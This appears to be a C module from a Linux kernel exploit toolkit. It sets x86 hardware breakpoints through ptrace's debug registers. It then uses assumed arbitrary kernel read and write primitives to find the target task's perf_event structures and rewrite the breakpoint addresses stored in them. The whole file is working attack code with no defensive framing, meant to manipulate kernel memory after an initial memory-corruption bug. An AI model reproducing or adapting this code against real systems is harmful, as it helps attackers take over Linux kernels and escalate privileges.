// SPDX-License-Identifier: GPL-2.0-only
#ifdef __x86_64__
#include <sys/ptrace.h>

#include "attack.h"
#include "breakpoint.h"
#include "objects.h"

/* In struct user, whose header has a PAGE_SIZE of its own */
#define USER_DEBUGREG	848
#define EVENT_SIZE	2048		/* struct perf_event, at most */

static bool poke(pid_t pid, int reg, uint64_t value)
{
	return !ptrace(PTRACE_POKEUSER, pid, USER_DEBUGREG + reg * sizeof(value), value);
}

bool breakpoint_set(pid_t pid, uint64_t dr7, uint64_t at)
{
	return poke(pid, 0, at) && poke(pid, 7, dr7);
}

static int move_in_event(uint64_t event, uint64_t from, uint64_t to)
{
	uint64_t at;
	int nr = 0;

	while ((at = find_word(event, EVENT_SIZE, from))) {
		if (kwrite64(at, to))
			return 0;
		nr++;
	}
	return nr;
}

/* The events that the task points to: those of ptrace() are among them. */
int breakpoint_move(pid_t pid, uint64_t from, uint64_t to)
{
	static uint64_t words[TASK_WORDS];
	struct task task;
	int nr = 0;
	size_t i;

	if (ktask(pid, &task) || kread(task.task, words, sizeof(words)))
		return 0;
	for (i = 0; i < TASK_WORDS; i++)
		if (is_kernel_address(words[i]))
			nr += move_in_event(words[i], from, to);
	return nr;
}
#endif
